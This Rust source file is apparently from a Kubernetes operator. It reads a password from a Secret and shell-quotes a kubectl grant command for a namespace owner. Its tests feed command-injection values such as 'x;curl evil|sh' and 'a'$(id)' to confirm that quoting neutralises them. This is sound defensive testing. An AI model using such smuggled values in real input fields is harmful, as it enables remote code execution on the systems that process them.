//! The password of a queue: one GET of one Secret, which the owner of the namespace has to grant.
use super::SourceError;
use fairlead_crds::worker_pool::SecretKeyRef;
use fairlead_runtime::{API_DEADLINE, deadline};
use k8s_openapi::api::core::v1::Secret;
use kube::{Api, Client};

/// The operator's own ServiceAccount.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Account {
    /// Namespace.
    pub namespace: String,
    /// Name.
    pub name: String,
}

/// The commands with which an owner of `namespace` lets the operator read that one Secret. They are typed into a shell by
/// somebody who may do more than whoever named the Secret, so each word is one word.
#[must_use]
pub fn grant_command(namespace: &str, secret: &str, account: &Account) -> String {
    let role = word(&format!("fairlead-read-{secret}"));
    let account = word(&format!("--serviceaccount={}:{}", account.namespace, account.name));
    let (resource, of_role) =
        (word(&format!("--resource-name={secret}")), word(&format!("--role=fairlead-read-{secret}")));
    let namespace = word(namespace);
    format!(
        "kubectl create role {role} -n {namespace} --verb=get --resource=secrets {resource} && \
         kubectl create rolebinding {role} -n {namespace} {of_role} {account}"
    )
}

/// One word for a POSIX shell: as it is where that is safe, in single quotes otherwise. The schema admits only safe names;
/// an object may be older than the schema.
fn word(text: &str) -> String {
    let safe = |c: char| c.is_ascii_alphanumeric() || "-._=:/".contains(c);
    if !text.is_empty() && text.chars().all(safe) {
        return text.to_owned();
    }
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// Reads the password.
///
/// # Errors
/// It is not there, not granted, or could not be read; see [`SourceError`].
pub async fn password(
    client: &Client,
    namespace: &str,
    wanted: &SecretKeyRef,
    account: &Account,
) -> Result<String, SourceError> {
    let SecretKeyRef { name, key } = wanted;
    let (owned, secret) = (|| namespace.to_owned(), || name.clone());
    let missing = |what: String| SourceError::SecretMissing { namespace: owned(), name: secret(), what };
    let api: Api<Secret> = Api::namespaced(client.clone(), namespace);
    let found = deadline("read Secret", API_DEADLINE, api.get(name)).await.map_err(|error| {
        if error.is_forbidden() {
            let command = grant_command(namespace, name, account);
            SourceError::SecretNotGranted { namespace: owned(), name: secret(), command }
        } else if error.is_not_found() {
            missing("does not exist".to_owned())
        } else {
            SourceError::SecretUnread { namespace: owned(), name: secret(), what: error.to_string() }
        }
    })?;
    let bytes =
        found.data.and_then(|mut data| data.remove(key)).ok_or_else(|| missing(format!("has no key {key:?}")))?;
    String::from_utf8(bytes.0).map_err(|_| missing(format!("has no text under key {key:?}")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_command_grants_one_secret_to_one_account() {
        let account = Account { namespace: "fairlead-system".into(), name: "fairlead-operator".into() };
        assert_eq!(
            grant_command("acme-prod", "redis", &account),
            "kubectl create role fairlead-read-redis -n acme-prod --verb=get --resource=secrets --resource-name=redis && \
             kubectl create rolebinding fairlead-read-redis -n acme-prod --role=fairlead-read-redis \
             --serviceaccount=fairlead-system:fairlead-operator"
        );
    }

    #[test]
    fn a_name_never_becomes_a_command() {
        let account = Account { namespace: "fairlead-system".into(), name: "fairlead-operator".into() };
        let command = grant_command("acme-prod", "x;curl evil|sh", &account);
        assert!(command.contains("'fairlead-read-x;curl evil|sh' -n"), "{command}");
        assert!(command.contains("'--resource-name=x;curl evil|sh'"), "{command}");
        assert_eq!(word("a'$(id)"), r"'a'\''$(id)'");
        assert_eq!(word(""), "\'\'");
    }
}
